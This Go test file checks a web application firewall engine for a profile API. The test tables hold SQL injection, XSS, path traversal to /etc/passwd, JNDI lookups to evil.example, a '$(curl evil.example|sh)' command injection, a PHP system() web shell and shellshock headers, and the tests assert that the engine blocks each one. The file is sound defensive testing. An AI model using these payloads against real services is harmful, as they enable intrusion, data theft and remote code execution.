package firewall

import (
	"cmp"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/profile-api/profile-api/deploy/waf"
)

func engine(t *testing.T, o Options) *Engine {
	t.Helper()
	o.ParanoiaLevel, o.AnomalyThreshold = cmp.Or(o.ParanoiaLevel, 1), cmp.Or(o.AnomalyThreshold, 5)
	o.MaxBodyBytes = cmp.Or(o.MaxBodyBytes, 65536)
	e, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// request is one as a browser's code sends it.
func request(method, uri, contentType string) *http.Request {
	r := httptest.NewRequest(method, uri, http.NoBody)
	r.RemoteAddr = "192.0.2.1:1234"
	for name, value := range map[string]string{
		"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Accept": "application/json",
		"Authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c2VyXzEifQ.c2ln", "Cookie": "__session=abc; __client_uat=1",
	} {
		r.Header.Set(name, value)
	}
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	return r
}

const patchJSON = "application/merge-patch+json"

func inspect(t *testing.T, e *Engine, r *http.Request, body string) Verdict {
	t.Helper()
	if body != "" {
		r.ContentLength = int64(len(body))
	}
	v, err := e.Inspect(r, []byte(body))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// Attacks at the API's own routes, wherever a caller can put something.
func TestAttacksAtTheAPIsRoutesAreStopped(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{})
	for name, c := range map[string]struct{ method, uri, body, group string }{
		"SQL in a search":           {"GET", "/v1/admin/profiles?q=%27%20OR%201=1%20--%20", "", "sqli"},
		"SQL in a list of handles":  {"GET", "/v1/profiles?handles=a,b%27%20UNION%20SELECT%20password%20FROM%20users--", "", "sqli"},
		"SQL in a cursor":           {"GET", "/v1/admin/audit-events?cursor=1%27%20AND%20SLEEP(5)%23", "", "sqli"},
		"SQL in a filter":           {"GET", "/v1/admin/audit-events?action=x%27;DROP%20TABLE%20profiles;--", "", "sqli"},
		"a script in a handle":      {"GET", "/v1/handles/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "xss"},
		"a path out of the handle":  {"GET", "/v1/profiles/..%2F..%2F..%2Fetc%2Fpasswd", "", "lfi"},
		"a path in the query":       {"GET", "/v1/profiles?ids=../../../../etc/passwd", "", "lfi"},
		"JNDI in the query":         {"GET", "/v1/profiles?handles=${jndi:ldap://evil.example/a}", "", "java"},
		"a script in bio":           {"PATCH", "/v1/profiles/me", `{"bio":"<script>fetch('//evil.example')</script>"}`, "xss"},
		"the same, escaped":         {"PATCH", "/v1/profiles/me", `{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, "xss"},
		"SQL in a locale":           {"PATCH", "/v1/profiles/me", `{"locale":"x' OR '1'='1"}`, "sqli"},
		"SQL in a link's address":   {"PATCH", "/v1/profiles/me", `{"links":[{"label":"x","url":"https://e.org/?id=1' UNION SELECT 1,2 --"}]}`, "sqli"},
		"a script in a link":        {"PATCH", "/v1/profiles/me", `{"links":[{"label":"<script>alert(1)</script>","url":"https://e.org"}]}`, "xss"},
		"a script as banner":        {"PATCH", "/v1/profiles/me", `{"banner_url":"javascript:alert(1)"}`, "xss"},
		"a script as link":          {"PATCH", "/v1/profiles/me", `{"links":[{"label":"x","url":"javascript:alert(1)"}]}`, "xss"},
		"deep in metadata":          {"PATCH", "/v1/profiles/me", `{"metadata":{"a":[{"b":{"c":["ok","<img src=x onerror=alert(1)>"]}}]}}`, "xss"},
		"as a name in metadata":     {"PATCH", "/v1/profiles/me", `{"metadata":{"<svg onload=alert(1)>":1}}`, "xss"},
		"as a name of a member":     {"PATCH", "/v1/profiles/me", `{"${jndi:ldap://evil.example/a}":1}`, "java"},
		"a member that comes twice": {"PATCH", "/v1/profiles/me", `{"bio":"fine","bio":"<script>alert(1)</script>"}`, "xss"},
		"after the document":        {"PATCH", "/v1/profiles/me", `{"bio":"fine"}{"bio":"<script>alert(1)</script>"}`, "xss"},
		"in what is no JSON":        {"PATCH", "/v1/profiles/me", `{"bio":"<script>alert(1)</script>"`, "xss"},
		"no JSON at all":            {"PATCH", "/v1/profiles/me", `<script>alert(1)</script>`, "xss"},
		"a prototype":               {"PATCH", "/v1/profiles/me", `{"metadata":{"__proto__":{"admin":true}}}`, "generic"},
		"a command in preferences":  {"PATCH", "/v1/profiles/me/preferences", `{"content_language":"en;cat /etc/passwd"}`, "rce"},
		"a command in a handle":     {"PATCH", "/v1/profiles/me", `{"handle":"$(curl evil.example|sh)"}`, "rce"},
		"PHP in a colour":           {"PATCH", "/v1/profiles/me", `{"theme_color":"<?php system($_GET[0]); ?>"}`, "php"},
		"SQL beside a reason":       {"POST", "/v1/admin/profiles/019ca945-0a00-7aa2-b11b-b27c75189337/suspend", `{"until":"1' UNION SELECT 1,2,3 --"}`, "sqli"},
		"a reason":                  {"POST", "/v1/admin/profiles/019ca945-0a00-7aa2-b11b-b27c75189337/suspend", `{"reason":"${jndi:ldap://evil.example/a}"}`, "java"},
		"a method":                  {"TRACE", "/v1/profiles/me", "", "method"},
		"a dotfile":                 {"GET", "/.env", "", "lfi"},
	} {
		contentType := ""
		if c.body != "" {
			contentType = patchJSON
		}
		v := inspect(t, e, request(c.method, c.uri, contentType), c.body)
		inGroup := func(rule int) bool { return Group(rule) == c.group }
		if !v.Stop || !slices.ContainsFunc(v.Rules, inGroup) {
			t.Errorf("%s: %+v, want a rule of %s", name, v, c.group)
		}
	}
	for name, change := range map[string]func(*http.Request){
		"a scanner":               func(r *http.Request) { r.Header.Set("User-Agent", "sqlmap/1.9") },
		"JNDI in Authorization":   func(r *http.Request) { r.Header.Set("Authorization", "Bearer ${jndi:ldap://evil.example/a}") },
		"a script in a cookie":    func(r *http.Request) { r.Header.Set("Cookie", "a=<script>alert(1)</script>") },
		"shellshock":              func(r *http.Request) { r.Header.Set("User-Agent", "() { :;}; /bin/bash -c 'id'") },
		"JNDI in X-Request-ID":    func(r *http.Request) { r.Header.Set("X-Request-ID", "${jndi:ldap://evil.example/a}") },
		"a form instead of JSON":  func(r *http.Request) { r.Header.Set("Content-Type", "application/x-www-form-urlencoded") },
		"an override of a method": func(r *http.Request) { r.Header.Set("X-HTTP-Method-Override", "DELETE") },
	} {
		r := request("GET", "/v1/profiles/me", "")
		change(r)
		if v := inspect(t, e, r, ""); !v.Stop {
			t.Errorf("%s passes: %+v", name, v)
		}
	}
}

func TestBodiesHaveAsManyStringsAsAreRead(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{})
	doc := func(n int) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(`,"` + string(rune('a'+i%26)) + strings.Repeat("b", i/26) + `"`)
		}
		return `{"metadata":[` + strings.TrimPrefix(b.String(), ",") + `]}`
	}
	// Repeats and numbers do not count, however many there are.
	for _, body := range []string{doc(60), `{"metadata":[` + strings.TrimSuffix(strings.Repeat(`"a",1,`, 4000), ",") + `]}`} {
		if v := inspect(t, e, request("PATCH", "/v1/profiles/me", patchJSON), body); v.Stop {
			t.Errorf("%.60s: %+v", body, v)
		}
	}
	var many strings.Builder
	for i := range 2100 {
		many.WriteString(`,"` + string([]rune{rune('a' + i%26), rune('a' + i/26%26), rune('a' + i/676)}) + `"`)
	}
	// The attack comes after what is read, and may not get through for that.
	body := `{"metadata":[` + many.String()[1:] + `,"<script>alert(1)</script>"]}`
	alone := fstest.MapFS{waf.After: {Data: []byte("SecRuleRemoveById 911000-949999\n")}} // the others would judge all 2,048
	for _, e := range []*Engine{e, engine(t, Options{DetectOnly: true, Overrides: alone})} {
		if v := inspect(t, e, request("PATCH", "/v1/profiles/me", patchJSON), body); !v.Stop || !slices.Contains(v.Rules, 200007) {
			t.Errorf("too many strings: %+v", v)
		}
	}
}

// A title is in an object in the list that links are, and nowhere else.
func TestOnlyTitlesOfLinksAreNamedSo(t *testing.T) {
	t.Parallel()
	for body, titles := range map[string]int{
		`{"links":[{"label":"x","url":"u"}]}`:                                           1,
		`{"links":[{"url":"u","label":"x"}]}`:                                           1,
		`{"links":[{"n":1,"label":"x"},{"a":{},"label":"x"},{"label":null,"url":"x"}]}`: 1, // once, if it is the same
		`{"links":[{"Label":"x"}]}`:                                                     0,
		`{"links":[{"label":["x"]}]}`:                                                   0,
		`{"links":[{"label":{"label":"x"}}]}`:                                           0,
		`{"links":[{"label":["a"],"url":"x"}]}`:                                         0,
		`{"links":[{"label":{},"url":"x"}]}`:                                            0,
		`{"links":[[{"label":"x"}]]}`:                                                   0,
		`{"links":{"label":"x"}}`:                                                       0,
		`{"links":{"a":{"label":"x"}}}`:                                                 0,
		`[{"links":[{"label":"x"}]}]`:                                                   0,
		`{"metadata":[{"label":"x"}]}`:                                                  0,
		`{"-links-label":"x","links-label":"x"}`:                                        0,
		`{"links":[]} [[{"label":"x"}]]`:                                                0,
		`{"links":[{"label":"u"}],"label":"x"}`:                                         0,
	} {
		w := walker{dec: json.NewDecoder(strings.NewReader(body)), seen: map[[2]string]bool{}}
		if err := w.document(); err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, a := range w.list {
			if a == [2]string{"json-links-label", "x"} {
				found++
			}
		}
		if found != titles {
			t.Errorf("%s: %d titles of %q", body, found, w.list)
		}
	}
}

// Exclusions go by these names.
func TestStringsAreNamedByTheirMember(t *testing.T) {
	t.Parallel()
	w := walker{dec: json.NewDecoder(strings.NewReader(
		`{"bio":"a","n":1,"links":[{"label":"b","url":"c"},{"label":"b"},"d",["e"]],"metadata":{"f":{"g":null,"h":["i",true]},"bio":"j"},"handle":"k"} "l"`,
	)), seen: map[[2]string]bool{}}
	if err := w.document(); err != nil {
		t.Fatal(err)
	}
	want := [][2]string{
		{"json_bio", ""}, {"json_bio", "a"}, {"json_n", ""}, {"json_links", ""}, {"json_links", "label"}, {"json-links-label", "b"}, {"json_links", "url"},
		{"json_links", "c"}, {"json_links", "d"}, {"json_links", "e"}, {"json_metadata", ""}, {"json_metadata", "f"}, {"json_metadata", "g"}, {"json_metadata", "h"},
		{"json_metadata", "i"}, {"json_metadata", "bio"}, {"json_metadata", "j"}, {"json_handle", ""}, {"json_handle", "k"},
	}
	// What comes after the document belongs to no member, whatever name it goes by.
	if len(w.list) != len(want)+1 || !slices.Equal(w.list[:len(want)], want) || w.list[len(want)][1] != "l" {
		t.Errorf("%q", w.list)
	}
}

func TestDetectionOnlyTellsWhatItWouldStop(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{DetectOnly: true})
	if v := inspect(t, e, request("GET", "/v1/profiles?ids=%3Cscript%3Ealert(1)%3C%2Fscript%3E", ""), ""); !v.Stop || len(v.Rules) == 0 {
		t.Errorf("%+v", v)
	}
	if v := inspect(t, e, request("GET", "/v1/profiles?ids=1", ""), ""); v.Stop || len(v.Rules) != 0 {
		t.Errorf("%+v", v)
	}
}

func TestTheSettingsCount(t *testing.T) {
	t.Parallel()
	script := func() *http.Request {
		return request("GET", "/v1/profiles?ids=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "")
	}
	if v := inspect(t, engine(t, Options{AnomalyThreshold: 1000}), script(), ""); v.Stop || len(v.Rules) == 0 {
		t.Errorf("with a high threshold: %+v", v)
	}
	r := request("GET", "/v1/profiles?ids=1", "")
	r.Header.Del("User-Agent") // of interest at the second level
	r.Header.Del("Accept")
	if v := inspect(t, engine(t, Options{ParanoiaLevel: 2}), r, ""); !slices.Contains(v.Rules, 920320) {
		t.Errorf("at the second level: %+v", v)
	}
	if v := inspect(t, engine(t, Options{}), r, ""); slices.Contains(v.Rules, 920320) {
		t.Errorf("at the first level: %+v", v)
	}
	own := fstest.MapFS{waf.After: {Data: []byte("SecRuleRemoveById 941000-941999\n")}, "notes.txt": {}}
	if v := inspect(t, engine(t, Options{Overrides: own}), script(), ""); v.Stop {
		t.Errorf("with a file of one's own: %+v", v)
	}
	for name, folder := range map[string]fstest.MapFS{
		"a misspelt file": {waf.After: {}, "afer.conf": {}}, "none of the files": {"x.txt": {}}, "nothing": {},
		"what cannot be read": {waf.After: {Data: []byte("SecRule nonsense\n")}},
	} {
		if _, err := New(Options{ParanoiaLevel: 1, AnomalyThreshold: 5, MaxBodyBytes: 10, Overrides: folder}); err == nil {
			t.Errorf("%s is accepted", name)
		}
	}
}

// Many at once, and each gets the verdict of its own request.
func TestVerdictsDoNotMix(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{})
	var all sync.WaitGroup
	for i := range 16 {
		all.Go(func() {
			uri := "/v1/profiles?ids=1"
			if i%2 == 1 {
				uri = "/v1/profiles?ids=%3Cscript%3Ealert(1)%3C/script%3E"
			}
			v, err := e.Inspect(request("GET", uri, ""), nil)
			if err != nil || v.Stop != (i%2 == 1) {
				t.Errorf("%s: %+v %v", uri, v, err)
			}
		})
	}
	all.Wait()
}
